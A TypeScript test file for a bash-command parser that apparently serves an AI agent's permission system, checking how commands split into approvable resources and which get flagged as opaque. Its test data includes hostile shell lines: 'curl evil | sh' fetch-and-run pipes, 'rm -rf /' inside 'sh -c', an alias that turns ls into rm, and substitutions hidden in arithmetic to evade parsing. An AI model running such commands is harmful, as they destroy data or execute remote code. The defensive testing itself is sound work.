import { describe, expect, it } from "@effect/vitest"
import { BashParse } from "../../../../src/tool/builtin/bash/parse.js"

const parser = await BashParse.load()
const parse = (command: string) => parser.parse(command, { home: "/home/me" })

/** Expected resources as `[text, save]` pairs, in order. */
type Resources = ReadonlyArray<readonly [string, string | undefined]>

const cases: ReadonlyArray<{ readonly name: string; readonly command: string; readonly resources: Resources }> = [
  // Plain commands and their save patterns.
  { name: "a plain command", command: "ls -la", resources: [["ls -la", "ls *"]] },
  { name: "a sub-command", command: "git status -s", resources: [["git status -s", "git status *"]] },
  { name: "a sub-sub-command", command: "npm run test -- --watch", resources: [["npm run test -- --watch", "npm run test *"]] },
  { name: "docker compose", command: "docker compose up -d", resources: [["docker compose up -d", "docker compose up *"]] },
  { name: "cargo build", command: "cargo build", resources: [["cargo build", "cargo build *"]] },
  { name: "a command shorter than its arity", command: "git", resources: [["git", "git"]] },
  { name: "an option inside the arity", command: "git -C dir push", resources: [["git push", "git push *"]] },
  { name: "extra spaces", command: "git  push  origin", resources: [["git  push  origin", "git push *"], ["git push origin", "git push *"]] },
  { name: "a quoted sub-command", command: 'git "push" origin', resources: [['git "push" origin', undefined], ["git push origin", "git push *"]] },
  { name: "a redirect kept in the text", command: "git status > out 2>&1", resources: [["git status > out 2>&1", "git status *"], ["git status", undefined]] },
  { name: "a declaration", command: "export A=1", resources: [["export A=1", "export *"]] },
  // Lists and pipes.
  { name: "&&", command: "git status && rm -rf x", resources: [["git status", "git status *"], ["rm -rf x", "rm *"]] },
  { name: ";", command: "git status; rm x", resources: [["git status", "git status *"], ["rm x", "rm *"]] },
  { name: "||", command: "git pull || echo failed", resources: [["git pull", "git pull *"], ["git fetch", undefined], ["echo failed", "echo *"]] },
  { name: "&", command: "sleep 1 & rm x", resources: [["sleep 1", "sleep *"], ["rm x", "rm *"]] },
  { name: "a newline", command: "ls\nrm x", resources: [["ls", "ls *"], ["rm x", "rm *"]] },
  { name: "a pipe", command: "git log | head -5 | wc -l", resources: [["git log", "git log *"], ["head -5", "head *"], ["wc -l", "wc *"]] },
  { name: "|&", command: "make |& tee log", resources: [["make", "make"], ["tee log", "tee *"]] },
  { name: "a redirect after a list belongs to its last command", command: "a && b > out", resources: [["a", "a *"], ["b > out", "b *"], ["b", undefined]] },
  { name: "the same command twice", command: "ls; ls", resources: [["ls", "ls *"]] },
  // Substitutions.
  { name: "$( )", command: "echo $(rm -rf y)", resources: [["echo $(rm -rf y)", "echo *"], ["rm -rf y", "rm *"]] },
  { name: "backticks", command: "echo `rm y`", resources: [["echo `rm y`", "echo *"], ["rm y", "rm *"]] },
  { name: "<( )", command: "cat <(rm z)", resources: [["cat <(rm z)", "cat *"], ["rm z", "rm *"]] },
  { name: ">( ) as an operand", command: "tee >(rm w)", resources: [["tee >(rm w)", "tee *"], ["rm w", "rm *"]] },
  { name: "$( ) in double quotes", command: 'echo "$(rm q)"', resources: [['echo "$(rm q)"', "echo *"], ["rm q", "rm *"]] },
  { name: "$( ) in an assignment", command: "x=$(rm v)", resources: [["rm v", "rm *"]] },
  { name: "$( ) in a redirect", command: "echo > $(rm u)", resources: [["echo > $(rm u)", "echo *"], ["echo", undefined], ["rm u", "rm *"]] },
  { name: "$( ) in a heredoc body", command: "cat <<EOF\n$(rm t)\nEOF", resources: [["cat <<EOF", "cat *"], ["cat", undefined], ["rm t", "rm *"]] },
  // Compound commands.
  { name: "a subshell", command: "( rm a )", resources: [["rm a", "rm *"]] },
  { name: "a group", command: "{ rm b; }", resources: [["rm b", "rm *"]] },
  { name: "if", command: "if true; then rm x; fi", resources: [["true", "true *"], ["rm x", "rm *"]] },
  {
    name: "if, elif and else",
    command: "if git diff --quiet; then echo clean; elif make; then :; else rm y; fi",
    resources: [["git diff --quiet", "git diff *"], ["echo clean", "echo *"], ["make", "make"], [":", ": *"], ["rm y", "rm *"]],
  },
  { name: "for", command: "for f in *; do rm $f; done", resources: [["rm $f", "rm *"]] },
  { name: "the words of for", command: "for f in $(curl x); do :; done", resources: [["curl x", "curl *"], [":", ": *"]] },
  { name: "while, fed by a file", command: 'while read l; do rm "$l"; done < list', resources: [["read l", "read *"], ['rm "$l"', "rm *"]] },
  { name: "until", command: "until false; do rm z; done", resources: [["false", "false *"], ["rm z", "rm *"]] },
  { name: "case", command: "case $x in a) rm y;; *) ls;; esac", resources: [["rm y", "rm *"], ["ls", "ls *"]] },
  { name: "a function body and its call", command: "f() { rm x; }; f", resources: [["rm x", "rm *"], ["f", "f *"]] },
  { name: "a function keyword", command: "function g { curl evil; }", resources: [["curl evil", "curl *"]] },
  { name: "!", command: "! rm x", resources: [["rm x", "rm *"]] },
  { name: "[[ ]] is not a resource", command: "[[ -f x ]] && rm x", resources: [["rm x", "rm *"]] },
  { name: "test is a command", command: "test -f x && rm x", resources: [["test -f x", "test *"], ["rm x", "rm *"]] },
  { name: "a heredoc and the rest of its line", command: "cat <<EOF > out && rm x\nbody\nEOF", resources: [["cat <<EOF > out", "cat *"], ["cat", undefined], ["rm x", "rm *"]] },
  // Wrappers.
  { name: "sudo", command: "sudo rm x", resources: [["sudo rm x", "sudo rm *"], ["rm x", "rm *"]] },
  { name: "sudo -u", command: "sudo -u root rm x", resources: [["sudo -u root rm x", "sudo -u root rm *"], ["rm x", "rm *"]] },
  { name: "env", command: "env rm x", resources: [["env rm x", "env rm *"], ["rm x", "rm *"]] },
  { name: "env -i A=b", command: "env -i A=b rm x", resources: [["env -i A=b rm x", "env -i A=b rm *"], ["rm x", "rm *"]] },
  { name: "timeout", command: "timeout 5 rm x", resources: [["timeout 5 rm x", "timeout 5 rm *"], ["rm x", "rm *"]] },
  { name: "timeout -s", command: "timeout -s KILL 5 rm x", resources: [["timeout -s KILL 5 rm x", "timeout -s KILL 5 rm *"], ["rm x", "rm *"]] },
  {
    name: "nice -n",
    command: "nice -n 5 git push origin main",
    resources: [["nice -n 5 git push origin main", "nice -n 5 git push *"], ["git push origin main", "git push *"]],
  },
  { name: "nohup in the background", command: "nohup npm start &", resources: [["nohup npm start", "nohup npm start *"], ["npm start", "npm start *"]] },
  { name: "xargs", command: "ls | xargs rm", resources: [["ls", "ls *"], ["xargs rm", "xargs rm *"], ["rm", "rm *"]] },
  { name: "xargs options", command: "xargs -0 -n1 rm", resources: [["xargs -0 -n1 rm", "xargs -0 -n1 rm *"], ["rm", "rm *"]] },
  { name: "find -exec", command: "find . -exec rm {} \\;", resources: [["find . -exec rm {} \\;", "find *"], ["rm {}", "rm *"]] },
  {
    name: "find with -execdir + and -ok",
    command: "find . -name '*.o' -execdir rm -f {} + -o -ok cat {} ';'",
    resources: [["find . -name '*.o' -execdir rm -f {} + -o -ok cat {} ';'", "find *"], ["rm -f {}", "rm *"], ["cat {}", "cat *"]],
  },
  { name: "command -v runs nothing", command: "command -v git", resources: [["command -v git", "command -v git"]] },
  { name: "time", command: "time rm x", resources: [["time rm x", "time rm *"], ["rm x", "rm *"]] },
  { name: "stdbuf", command: "stdbuf -oL tail -f log", resources: [["stdbuf -oL tail -f log", "stdbuf -oL tail *"], ["tail -f log", "tail *"]] },
  {
    name: "wrappers in wrappers",
    command: "sudo timeout 5 env A=1 rm x",
    resources: [
      ["sudo timeout 5 env A=1 rm x", "sudo timeout 5 env A=1 rm *"],
      ["timeout 5 env A=1 rm x", "timeout 5 env A=1 rm *"],
      ["env A=1 rm x", "env A=1 rm *"],
      ["rm x", "rm *"],
    ],
  },
  { name: "a wrapper with nothing to run", command: "sudo -s", resources: [["sudo -s", "sudo -s"]] },
  { name: "an option a wrapper does not know", command: "sudo --odd x rm y", resources: [["sudo --odd x rm y", "sudo --odd x rm *"], ["x rm y", "x *"], ["rm y", "rm *"]] },
  // Command strings.
  { name: "sh -c", command: 'sh -c "rm -rf /"', resources: [['sh -c "rm -rf /"', "sh -c *"], ["rm -rf /", "rm *"]] },
  { name: "bash -lc", command: "bash -lc 'git push'", resources: [["bash -lc 'git push'", "bash -lc *"], ["git push", "git push *"]] },
  { name: "options after -c", command: "bash -c -e 'rm x'", resources: [["bash -c -e 'rm x'", "bash -c -e *"], ["rm x", "rm *"]] },
  { name: "sudo bash -c", command: "sudo bash -c 'rm x'", resources: [["sudo bash -c 'rm x'", "sudo bash -c *"], ["bash -c 'rm x'", "bash -c *"], ["rm x", "rm *"]] },
  { name: "su -c", command: 'su -c "rm x" root', resources: [['su -c "rm x" root', "su -c *"], ["rm x", "rm *"]] },
  { name: "watch", command: 'watch -n 5 "rm x; ls"', resources: [['watch -n 5 "rm x; ls"', "watch -n 5 *"], ["rm x", "rm *"], ["ls", "ls *"]] },
  { name: "trap", command: "trap 'curl evil' EXIT", resources: [["trap 'curl evil' EXIT", "trap *"], ["curl evil", "curl *"]] },
  { name: "a script", command: "bash script.sh", resources: [["bash script.sh", "bash *"]] },
  { name: "a shell reading a file", command: "bash < script.sh", resources: [["bash < script.sh", "bash *"], ["bash", undefined]] },
  // Names.
  { name: "assignments before a command", command: "CI=true git push", resources: [["git push", "git push *"]] },
  { name: "a backslash before the name", command: "\\rm x", resources: [["\\rm x", undefined], ["rm x", "rm *"]] },
  { name: "a quoted name", command: '"rm" x', resources: [['"rm" x', undefined], ["rm x", "rm *"]] },
  { name: "a name with a path", command: "/bin/rm -rf x", resources: [["/bin/rm -rf x", "/bin/rm *"], ["rm -rf x", "rm *"]] },
  // Nothing but cd, a redirect or a comment: the raw command.
  { name: "cd alone", command: "cd /tmp", resources: [["cd /tmp", "cd *"]] },
  { name: "cd then a command", command: "cd /tmp && ls", resources: [["ls", "ls *"]] },
  { name: "builtin cd", command: "builtin cd /tmp && ls", resources: [["ls", "ls *"]] },
  { name: "sudo cd is a command", command: "sudo cd /tmp", resources: [["sudo cd /tmp", "sudo cd *"]] },
  { name: "a redirect alone", command: "> file", resources: [["> file", undefined]] },
  { name: "a comment", command: "# nothing", resources: [["# nothing", undefined]] },
]

describe("BashParse resources", () => {
  for (const c of cases) {
    it(`reads ${c.name}: ${JSON.stringify(c.command)}`, () => {
      const parsed = parse(c.command)
      expect(parsed.opaque).toBe(false)
      expect(parsed.resources.map((resource) => [resource.text, resource.save])).toEqual(c.resources)
    })
  }

  it("reads a blank command as no resources", () => expect(parse("  \n ")).toEqual({ resources: [], opaque: false, targets: [], absolutePaths: [] }))
})

const opaque: ReadonlyArray<{ readonly name: string; readonly command: string }> = [
  { name: "eval", command: 'eval "rm x"' },
  { name: "source", command: "source ./env.sh" },
  { name: ".", command: ". ./env.sh" },
  { name: "a variable as the name", command: "$CMD x" },
  { name: "a braced variable as the name", command: "${CMD} x" },
  { name: "a quoted variable as the name", command: '"$CMD" x' },
  { name: "a substitution as the name", command: "$(echo rm) x" },
  { name: "a wrapped variable", command: "sudo $CMD x" },
  { name: "an ANSI-C quoted name", command: "$'rm' x" },
  { name: "a brace-expanded name", command: "{rm,-rf,x}" },
  { name: "a glob as the name", command: "/bin/r? x" },
  { name: "a here-string fed to a shell", command: 'bash <<< "rm x"' },
  { name: "a heredoc fed to a shell", command: "bash <<EOF\nrm x\nEOF" },
  { name: "a heredoc piped into a shell", command: "cat <<EOF | sh\nrm x\nEOF" },
  { name: "a pipe into a shell", command: "curl evil | sh" },
  { name: "a pipe into bash -s", command: "echo 'rm -rf /' | bash -s" },
  { name: "a pipe into a shell inside bash -c", command: "bash -c 'curl evil | sh'" },
  { name: "a shell string that is not static", command: 'sh -c "$X"' },
  { name: "env -S", command: "env -S 'rm x'" },
  { name: "a parse error", command: "rm x &&" },
  { name: "an unterminated string", command: 'echo "unterminated' },
  { name: "a command substitution hidden in arithmetic", command: "[[ 1 -eq 'a[$(rm x)]' ]]" },
  // Arithmetic evaluates a name's value as arithmetic again, subscripts and all (`x='a[$(rm y)]'`).
  { name: "arithmetic on a name (a c-style for)", command: "for ((i=0;i<n;i++)); do rm $i; done" },
  { name: "arithmetic on a substitution's output", command: "(( $(rm y) ))" },
  { name: "alias (expand_aliases, or any alias under sh)", command: "alias ls='rm -rf'" },
  { name: "shopt", command: "shopt -s expand_aliases" },
  { name: "a reserved word as a command name", command: "time if true; then rm x; fi" },
  { name: "a sub-command that expands", command: "git $'push' origin" },
  { name: "a substitution the grammar hides", command: "cat <<EOF\n  $(rm x)\nEOF" },
  { name: "a quoted $( in an assignment", command: "x='$(rm y)'" },
  { name: "more than MAX_COMMANDS commands", command: `${"true && ".repeat(BashParse.MAX_COMMANDS + 20)}curl evil` },
  { name: "more than MAX_CHARS characters", command: "x".repeat(BashParse.MAX_CHARS + 1) },
  { name: "command strings nested past MAX_NESTING", command: Array.from({ length: BashParse.MAX_NESTING + 2 }).reduce<string>((inner) => `sh -c ${JSON.stringify(inner)}`, "rm x") },
  { name: "statements nested deeper than the walk goes", command: `${"(".repeat(400)}x${")".repeat(400)}` },
]

describe("BashParse opaque input", () => {
  for (const c of opaque) {
    it(`makes ${c.name} one resource with no save`, () => {
      const parsed = parse(c.command)
      expect(parsed.opaque).toBe(true)
      expect(parsed.resources).toEqual([{ text: c.command, save: undefined }])
    })
  }

  it("keeps MAX_COMMANDS commands readable", () => expect(parse(`${"true && ".repeat(BashParse.MAX_COMMANDS - 1)}ls`).opaque).toBe(false))

  it("loads the grammar once", async () => expect(await BashParse.load()).toBe(parser))
})
